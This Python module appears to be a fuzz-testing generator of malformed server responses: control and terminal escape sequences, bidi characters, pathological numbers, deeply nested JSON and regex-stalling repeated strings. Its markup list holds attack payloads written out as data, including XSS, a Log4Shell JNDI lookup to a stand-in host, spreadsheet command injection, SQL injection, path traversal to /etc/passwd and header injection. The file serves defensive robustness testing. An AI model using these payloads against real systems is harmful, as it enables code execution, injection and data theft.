"""Texts, numbers and values that no honest server sends."""

from __future__ import annotations

from random import Random

from .sent import as_it_is

CONTROL = (
    "\x00",
    "\x07",
    "\x08",
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x7f",
    "\x9b31m",
)
BIDI = (
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\u200b",
    "\u200e\u200f",
    "\u2028",
    "\u2029",
    "\ufeff",
    "\u061c",
    "\U000e0041",
)
MARKUP = (
    "<script>alert('fuzz-payload')</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></style><h1>",
    "]]>",
    "<!--",
    "[red]text[/red][@click=app.quit]x[/]",
    "[link=javascript:alert(1)]x[/link]",
    "![x](http://stranger.invalid/x)",
    "[x](javascript:alert(1))",
    "`code` | cell | ** # heading",
    "\n# heading\n\n- item",
    "{{ 7 * 7 }}{% raw %}",
    "&#x1b;&lt;&amp;",
    "{0}{count}%s%n",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://stranger.invalid/a}",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "\r\nX-Injected: yes",
)
ODD = (
    "",
    " ",
    "\t",
    "null",
    "undefined",
    "NaN",
    "true",
    "0",
    "-1",
    "٣",
    "１２",
    "ſ",
    "ß" * 3,
    "İ",
    "e\u0301",
    "🏫",
    "\uffff",
)
# What a backtracking pattern has trouble with: one beginning over and over, and no end.
STUTTERS = (
    "a@",
    "a.",
    "a,",
    "<",
    "<a>;",
    "=",
    "ey.",
    "a:b ",
    "%41",
    "&#4",
    "\\u00",
    "A=",
    "x-",
    " ",
    "http://",
    "a/",
    '"',
    "\\",
)


def text(random: Random) -> str:
    """A text of any kind, up to a few thousand characters."""
    kind = random.randrange(7)
    if kind == 0:
        return random.choice(CONTROL) + word(random)
    if kind == 1:
        return word(random) + random.choice(BIDI) + word(random)
    if kind == 2:
        return random.choice(MARKUP)
    if kind == 3:
        return random.choice(ODD)
    if kind == 4:
        return random.choice(STUTTERS) * random.choice((3, 40, 400, 2000))
    if kind == 5:
        return "".join(chr(random.randrange(0x20, 0x3000)) for _ in range(random.randrange(20)))
    return word(random) * random.choice((1, 10, 500))


def stutter(random: Random, length: int) -> str:
    """A text of this length that says the same over and over."""
    part = random.choice(STUTTERS)
    return (word(random) + part * length)[:length]


def word(random: Random) -> str:
    """A few letters and digits."""
    return "".join(random.choice("abcxyzABC019") for _ in range(random.randrange(1, 9)))


def number(random: Random) -> str:
    """A number as JSON may write it, also one that Python does not read."""
    return random.choice(
        (
            "0",
            "-0",
            "-1",
            "1e400",
            "-1e400",
            "1e-400",
            "NaN",
            "Infinity",
            "-Infinity",
            "1e308",
            "0.1",
            "2147483648",
            "9007199254740993",
            "-9223372036854775809",
            "9" * 400,
            "9" * 5000,
            "1" + "0" * 4999,
            f"1e{'9' * 400}",
            f"0.{'3' * 5000}",
            "1.5",
            str(random.randrange(-10, 100_000)),
        )
    )


def value(random: Random, depth: int = 2) -> object:
    """Any JSON value."""
    kind = random.randrange(9 if depth else 6)
    if kind == 0:
        return None
    if kind == 1:
        return random.choice((True, False))
    if kind == 2:
        return as_it_is(number(random))
    if kind in (3, 4):
        return text(random)
    if kind == 5:
        return random.choice(("\ud800", "a\udfff", "\udc00\ud800", "\ud83d"))
    if kind == 6:
        return [value(random, depth - 1) for _ in range(random.randrange(4))]
    if kind == 7:
        return {text(random)[:200]: value(random, depth - 1) for _ in range(random.randrange(4))}
    return as_it_is("[" * (deep := random.choice((5, 60, 900, 3000, 20_000))) + "]" * deep)
